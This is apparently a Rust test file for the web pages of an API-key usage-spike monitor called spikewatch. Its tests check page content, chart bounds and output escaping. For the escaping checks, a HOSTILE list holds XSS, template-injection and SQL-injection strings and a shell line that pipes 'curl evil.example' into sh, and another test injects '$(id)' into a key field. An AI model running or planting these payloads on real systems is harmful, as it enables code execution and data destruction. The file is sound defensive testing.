//! The pages: what they say, that nothing escapes, and that charts stay in their frame.

use model::{Alert, Contributor, Nanos, SeriesPoint, Severity, Timestamp};
use server::Vitals;

use crate::client::Running;
use crate::maker::{START, alert, vitals};

async fn incident_page(alert: &Alert) -> String {
    let server = Running::with(std::slice::from_ref(alert), vitals(), &[]).await;
    let answer = server
        .get(&format!("/incidents/{}", alert.incident_id))
        .await;
    assert_eq!(answer.status, 200, "{}", answer.body);
    answer.body
}

#[tokio::test]
async fn the_overview_shows_open_incidents_and_the_vitals() {
    let mut over = alert("initech", "key_9", Severity::Low);
    over.ended = true;
    let alerts = [
        alert("acme", "key_1", Severity::High),
        alert("globex", "key_3", Severity::Critical),
        over,
    ];
    let server = Running::with(&alerts, vitals(), &[]).await;
    let page = server.get("/").await.body;
    for expected in [
        "2 open incidents on 2 keys: $2,408 lost so far, $100.00 more every hour.",
        "1,234,567 read",
        "data up to 4 May 2026, 12:00 UTC",
        "12:00:00",
        "Over",
    ] {
        assert!(page.contains(expected), "{expected}\n{page}");
    }
    let place = |text: &str| page.find(text).unwrap();
    assert!(place("globex") < place("acme"));
    assert!(place("acme") < place("initech"));
}

#[tokio::test]
async fn an_empty_overview_says_what_to_do() {
    for (vitals, expected) in [
        (Vitals::default(), "No usage has arrived yet"),
        (
            Vitals {
                caught_up: false,
                ..vitals()
            },
            "Reading the backlog",
        ),
        (vitals(), "42 keys are watched"),
    ] {
        let server = Running::with(&[], vitals, &[]).await;
        let page = server.get("/").await.body;
        assert!(page.contains(expected), "{expected}");
        assert!(page.contains("<code>spikewatch "));
    }
    let failing = Vitals {
        last_error: Some("<i>history</i> is full".to_owned()),
        ..vitals()
    };
    let server = Running::with(&[], failing, &[]).await;
    let page = server.get("/").await.body;
    assert!(page.contains("&#60;i&#62;history"), "{page}");
}

#[tokio::test]
async fn an_incident_says_what_happened_and_what_stops_it() {
    let page = incident_page(&alert("acme", "key_1", Severity::High)).await;
    for expected in [
        "Key key_1 of acme made 5,000 requests between 4 May 12:00 and 4 May 13:00 UTC, where at \
         most 70 were expected (125 times the usual); it has cost $1,204 more than expected since \
         4 May 2026, 12:00 UTC and costs $50.00 more every hour.",
        "The key is stored with braintrust. No other account",
        "spikewatch act freeze --key=key_1 --provider=openai --account=acme",
        "spikewatch undo ACTION",
        "SELECT sum(requests) AS observed",
        "key_id = &#39;key_1&#39;",
        "TIMESTAMPTZ &#39;2026-05-04T12:00:00.000Z&#39;",
        "https://attack.mitre.org/techniques/T1496/004/",
        "Cloud Service Hijacking",
        "first alert on key_1",
        "message 1 to slack waits",
        "<span class=\"chip new\">new</span>",
        "24 windows, 1 of them above the expected range.",
    ] {
        assert!(page.contains(expected), "{expected}\n{page}");
    }
    assert!(!page.contains("<script") && !page.contains("style=") && !page.contains("onclick"));
}

#[tokio::test]
async fn a_way_out_of_nowhere() {
    let server = Running::with(&[], vitals(), &[]).await;
    for path in ["/nowhere", "/incidents/inc_none", "/incidents/%3Cscript%3E"] {
        let answer = server.get(path).await;
        assert_eq!(answer.status, 404, "{path}");
        assert!(answer.body.contains("href=\"/\""), "{path}");
        assert!(!answer.body.contains("<script"), "{path}");
    }
}

const HOSTILE: [&str; 10] = [
    "<script>alert(1)</script>",
    "\"><svg onload=alert(1)>",
    "' onmouseover='alert(1)",
    "</title></svg><img src=x onerror=alert(1)>",
    "</textarea></code></pre><iframe>",
    "javascript:alert(1)",
    "{{ 1111 * 7777 }}{% include \"x\" %}",
    "'; DROP TABLE usage_events; --",
    "$(curl evil.example|sh)`id`",
    "a\u{202e}b\u{0}c\nd",
];

#[tokio::test]
async fn whatever_a_feed_says_is_only_text() {
    for hostile in HOSTILE {
        let mut alert = alert(hostile, hostile, Severity::High);
        alert.provider = hostile.into();
        alert.project = Some(hostile.into());
        alert.key_hint = Some(hostile.into());
        alert.owner = Some(hostile.into());
        alert.stored_with = vec![hostile.into()];
        alert.evidence[0].family = hostile.into();
        alert.evidence[0].text = hostile.into();
        alert.attack_techniques = vec![hostile.into()];
        alert.top_contributors = vec![Contributor {
            dimension: hostile.into(),
            value: hostile.into(),
            share: 0.5,
            first_seen: true,
        }];
        let server = Running::with(std::slice::from_ref(&alert), vitals(), &[]).await;
        let incident = server
            .get(&format!("/incidents/{}", alert.incident_id))
            .await;
        assert_eq!(incident.status, 200);
        for page in [incident.body, server.get("/").await.body] {
            check_tags(&page, hostile);
        }
    }
}

/// Reads a page as a browser would and checks that only our own elements and attributes are there.
fn check_tags(page: &str, hostile: &str) {
    const ELEMENTS: [&str; 51] = [
        "!DOCTYPE",
        "html",
        "head",
        "meta",
        "title",
        "link",
        "body",
        "a",
        "header",
        "div",
        "svg",
        "rect",
        "path",
        "span",
        "p",
        "main",
        "section",
        "h1",
        "h2",
        "h3",
        "table",
        "caption",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "bdi",
        "small",
        "footer",
        "nav",
        "dl",
        "dt",
        "dd",
        "pre",
        "code",
        "article",
        "figure",
        "figcaption",
        "i",
        "desc",
        "line",
        "text",
        "polygon",
        "polyline",
        "ul",
        "ol",
        "li",
        "time",
        "strong",
        "button",
    ];
    let mut rest = page;
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        let end = rest.find('>').unwrap();
        let tag = &rest[..end];
        let name: String = tag
            .trim_start_matches('/')
            .chars()
            .take_while(|c| !c.is_whitespace() && *c != '/')
            .collect();
        assert!(ELEMENTS.contains(&name.as_str()), "<{tag}> from {hostile}");
        // Outside quotes, nothing may look like a handler or leave the attribute.
        let unquoted: String = tag.split('"').step_by(2).collect();
        assert!(!unquoted.contains(" on"), "<{tag}> from {hostile}");
        assert!(!unquoted.contains('\''), "<{tag}> from {hostile}");
        for (place, value) in tag.split('"').enumerate() {
            if place % 2 == 1 {
                assert!(!value.starts_with("javascript:"), "<{tag}> from {hostile}");
            }
        }
        rest = &rest[end + 1..];
    }
    assert!(!page.contains("8640247"), "a template was evaluated");
    assert!(!page.contains('\u{202e}'), "text that runs backwards");
}

#[tokio::test]
async fn commands_and_queries_keep_hostile_text_inside_their_quotes() {
    let mut hostile = alert("it's", "$(id)'; --", Severity::High);
    hostile.provider = String::new();
    let page = incident_page(&hostile).await;
    for expected in [
        r"--key=&#39;$(id)&#39;\&#39;&#39;; --&#39;",
        r"--account=&#39;it&#39;\&#39;&#39;s&#39;",
        "WHERE provider IS NULL",
        "key_id = &#39;$(id)&#39;&#39;; --&#39;",
    ] {
        assert!(page.contains(expected), "{expected}\n{page}");
    }
    assert!(!page.contains("--provider="), "{page}");
}

/// Reads the numbers of every attribute `name` in the page.
fn numbers<'a>(page: &'a str, name: &str) -> impl Iterator<Item = f64> + 'a {
    let needle = format!(" {name}=\"");
    let mut rest = page;
    std::iter::from_fn(move || {
        let start = rest.find(&needle)? + needle.len();
        let value = &rest[start..start + rest[start..].find('"')?];
        rest = &rest[start..];
        Some(value.split([' ', ',']).map(|n| n.parse::<f64>().unwrap()))
    })
    .flatten()
}

fn check_charts(page: &str) {
    let mut charts = 0;
    for chart in page.split("<svg class=\"plot").skip(1) {
        let chart = &chart[..chart.find("</svg>").unwrap()];
        charts += 1;
        let frame: Vec<f64> = numbers(chart, "viewBox").collect();
        let (width, height) = (frame[2], frame[3]);
        for name in ["x", "x1", "x2"] {
            for x in numbers(chart, name) {
                assert!((0.0..=width).contains(&x), "{name}={x}");
            }
        }
        for name in ["y", "y1", "y2"] {
            for y in numbers(chart, name) {
                assert!((0.0..=height).contains(&y), "{name}={y}");
            }
        }
        for (place, at) in numbers(chart, "points").enumerate() {
            let limit = if place % 2 == 0 { width } else { height };
            assert!((0.0..=limit).contains(&at), "point {place}: {at}");
        }
        for (x, length) in numbers(chart, "x").zip(numbers(chart, "width")) {
            assert!(length > 0.0 && x + length <= width * 2.0);
        }
        for word in ["NaN", "inf", "e+", "-0.0\""] {
            assert!(!chart.contains(word), "{word}");
        }
        assert!(chart.contains("<title id=") && chart.contains("<desc id="));
    }
    assert_eq!(charts, 2, "one wide, one narrow");
}

#[tokio::test]
async fn charts_stay_in_their_frame_whatever_the_series() {
    let plain = alert("acme", "key_1", Severity::High);
    let point = |start: Timestamp, width: i64, value: f64| SeriesPoint {
        start,
        end: start.plus(width),
        observed: value,
        expected: value / 2.0,
        low: value / 4.0,
        high: value * 0.75,
    };
    let hour = Timestamp::HOUR;
    let odd = SeriesPoint {
        observed: -5.0,
        expected: 3.0,
        low: 9.0,
        high: 1.0,
        ..point(START, hour, 1.0)
    };
    let cases: [Vec<SeriesPoint>; 9] = [
        plain.series.clone(),
        vec![point(START, hour, 0.0)],
        vec![point(START, 1, 1.0)],
        vec![
            point(START, hour, f64::MAX),
            point(START.plus(hour), hour, 1.0),
        ],
        vec![
            point(START, hour, f64::NAN),
            point(START, hour, f64::INFINITY),
        ],
        vec![odd],
        vec![point(START, hour, 1e-12)],
        (0..2_000)
            .map(|place| point(START.plus(place * hour), hour, place as f64))
            .collect(),
        vec![
            point(Timestamp::EARLIEST, hour, 2.0),
            point(Timestamp::LATEST.plus(-hour - 1), hour, 1.0),
        ],
    ];
    for series in cases {
        let mut alert = plain.clone();
        alert.series = series;
        check_charts(&incident_page(&alert).await);
    }
    // The worst window lies outside of the series.
    let mut apart = plain.clone();
    apart.window_start = START.plus(-90 * Timestamp::DAY);
    apart.window_end = START.plus(90 * Timestamp::DAY);
    check_charts(&incident_page(&apart).await);
    let mut none = plain;
    none.series = Vec::new();
    assert!(incident_page(&none).await.contains("no series to draw"));
}

#[tokio::test]
async fn an_unknown_is_called_unknown() {
    let mut unknown = alert("", "key_1", Severity::High);
    unknown.cost_so_far_usd = Nanos::default();
    unknown.stored_with = Vec::new();
    let page = incident_page(&unknown).await;
    for expected in [
        "unknown account",
        "is not known",
        "The inventory names no vendor",
    ] {
        assert!(page.contains(expected), "{expected}\n{page}");
    }
}
